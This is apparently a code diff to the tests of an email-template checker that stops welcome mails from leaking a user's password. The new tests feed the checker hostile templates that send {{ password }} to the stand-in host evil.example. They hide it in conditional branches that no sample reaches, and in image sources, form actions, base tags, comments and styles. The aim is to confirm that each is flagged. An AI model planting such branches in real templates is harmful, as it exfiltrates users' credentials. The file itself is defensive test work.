@@ -16,7 +16,7 @@ from reconciler.mail.checking import _samples, check
 from reconciler.mail.filters import FILTERS
 from reconciler.mail.grammar import FIELDS, MOST_FAULTS, Fault, Field, faults_of
 from reconciler.mail.markup import text_of
-from reconciler.mail.rendering import BadTemplate, Rendered, render
+from reconciler.mail.rendering import SAMPLE_HOSTS, BadTemplate, Rendered, render
 from reconciler.mail.variables import SAMPLES, VARIABLES
 
 CERTIFICATE = "certificate-issued"
@@ -109,7 +109,7 @@ def test_a_template_full_of_faults_reports_only_the_first() -> None:
 )  # fmt: skip
 def test_the_password_is_shown_and_goes_nowhere_else(text: str, html: str | None, place: tuple[str, int, int]) -> None:
     found = welcome(text, html)
-    assert {fault.rule for fault in found} == {"template-password"}
+    assert "template-password" in {fault.rule for fault in found if fault.severity == "error"}
     assert place in [(fault.field, fault.line, fault.column) for fault in found]
 
 
@@ -121,7 +121,8 @@ def test_the_subject_never_shows_the_password() -> None:
 def test_ordinary_html_around_the_password_is_fine() -> None:
     html = (
         "<!DOCTYPE html><html><head><title>Welcome</title><style>b > i { color: red }</style></head><body>"
-        '<!-- logo --><img src="https://example.org/a>b.png" alt=\'a "logo"\'><br/><p class=a>1 < 2 & <b>{{ password }}</b></p>'
+        '<!-- logo --><img src="https://accord.example.org/a>b.png" alt="x">'
+        "<br/><p class=a>1 < 2 & <b>{{ password }}</b></p>"
     )
     assert welcome(html=html) == []
 
@@ -145,6 +146,46 @@ def test_ordinary_html_around_the_password_is_fine() -> None:
 )
 def test_the_text_of_a_page_is_what_readers_see(page: str, text: str) -> None:
     assert text_of(page) == text
+
+
+HIDDEN = '{% if url and url != "https://accord.example.org/" %}'
+"""A condition that holds in no sample."""
+
+
+@pytest.mark.parametrize(
+    ("text", "html"),
+    [
+        (HIDDEN + "https://evil.example/{{ password }}{% endif %} {{ password }}", None),
+        ("{{ password }}", HIDDEN + '<img src="https://evil.example/{{ password }}">{% endif %}{{ password }}'),
+        (HIDDEN + "https://evil.example/{% endif %}{{ password }}", None),
+        ("https://evil.example/{% if user.fullName == 'x' %}{% else %} {% endif %}{{ password }}", None),
+        ("{{ password }}{% if user.name == 'x' %}@evil.example{% endif %}", None),
+        ("{% if url %}a{% elif 'x' == 'y' %}{% if url %}b{% else %}evil.example/{% endif %}{% endif %}{{ password }}", None),
+        ("{{ password }}", HIDDEN + "<img src='https://evil.example/{% endif %}{{ password }}'>"),
+        ("{{ password }}", HIDDEN + "<!-- {% endif %}{{ password }} -->"),
+        ("{{ password }}", HIDDEN + "<style>{% endif %}{{ password }}</style>"),
+        ("<https://evil.example/" + HIDDEN + "x{% endif %}\n{{ password }}>", None),
+        ("{{ password }}", "<form action='https://evil.example'><select><option>{{ password }}</option></select></form>"),
+        ("{{ password }}", HIDDEN + "<base href='https://evil.example'>{% endif %}<p>{{ password }}</p>"),
+        ("{{ password }}", "{% if url %}<b>{{ password }}</b>{% else %}<b>{{ password }}</b>{% endif %}"),
+    ],
+)  # fmt: skip
+def test_no_branch_sends_the_password_elsewhere(text: str, html: str | None) -> None:
+    assert any(fault.severity == "error" for fault in welcome(text, html))
+
+
+def test_a_mail_with_a_password_has_no_more_branches_than_can_be_looked_at() -> None:
+    (fault,) = welcome("{{ password }}" + "{% if url %} a {% endif %}" * 30)
+    assert "branches" in fault.message
+
+
+def test_a_literal_link_is_a_warning_since_only_the_api_knows_where_its_links_may_lead() -> None:
+    for template in (
+        EmailTemplate("welcome", "s", "Log in at https://portal.example.org/ with\n{{ password }}"),
+        EmailTemplate(CERTIFICATE, "s", "x", '<a href="https://portal.example.org/">portal</a>'),
+    ):
+        faults = check(template)
+        assert {(fault.rule, fault.severity) for fault in faults} == {("template-link", "warning")}
 
 
 # What gets out
@@ -246,7 +287,7 @@ def test_known_template_escapes_are_refused(payload: str, field: Field) -> None:
         found = [fault for fault in check(template) if fault.severity == "error"]
         assert found and all(fault.field == field for fault in found)
         with pytest.raises(BadTemplate):
-            render(template, SAMPLES[name])
+            render(template, SAMPLES[name], SAMPLE_HOSTS)
 
 
 def longer(before: str, piece: str, length: int) -> str:
@@ -282,7 +323,7 @@ def test_rendering_a_list_takes_linear_time(text: str) -> None:
     def rendering(names: int) -> Callable[[], object]:
         sample = SAMPLES[CERTIFICATE]
         values = {**sample, "certificate": {**sample["certificate"], "names": ["a.example"] * names}}
-        return partial(render, EmailTemplate(CERTIFICATE, "s", text), values)
+        return partial(render, EmailTemplate(CERTIFICATE, "s", text), values, SAMPLE_HOSTS)
 
     assert_linear(rendering, 500, 8_000)
 
@@ -333,7 +374,7 @@ def test_a_template_has_no_more_code_than_a_mail_needs(text: str) -> None:
 
 def outcome(template: EmailTemplate, sample: dict[str, Any]) -> Rendered | BadTemplate:
     try:
-        return render(template, sample)
+        return render(template, sample, SAMPLE_HOSTS)
     except BadTemplate as error:
         return error
 
@@ -418,4 +459,4 @@ def test_whatever_is_written_is_a_mail_or_a_bad_template(text: str, field: Field
 def test_a_template_of_an_unknown_mail_is_refused() -> None:
     assert check(EmailTemplate("farewell", "{{", "{{")) == []
     with pytest.raises(BadTemplate, match="there is no mail `farewell`"):
-        render(EmailTemplate("farewell", "s", "x"), {})
+        render(EmailTemplate("farewell", "s", "x"), {}, SAMPLE_HOSTS)
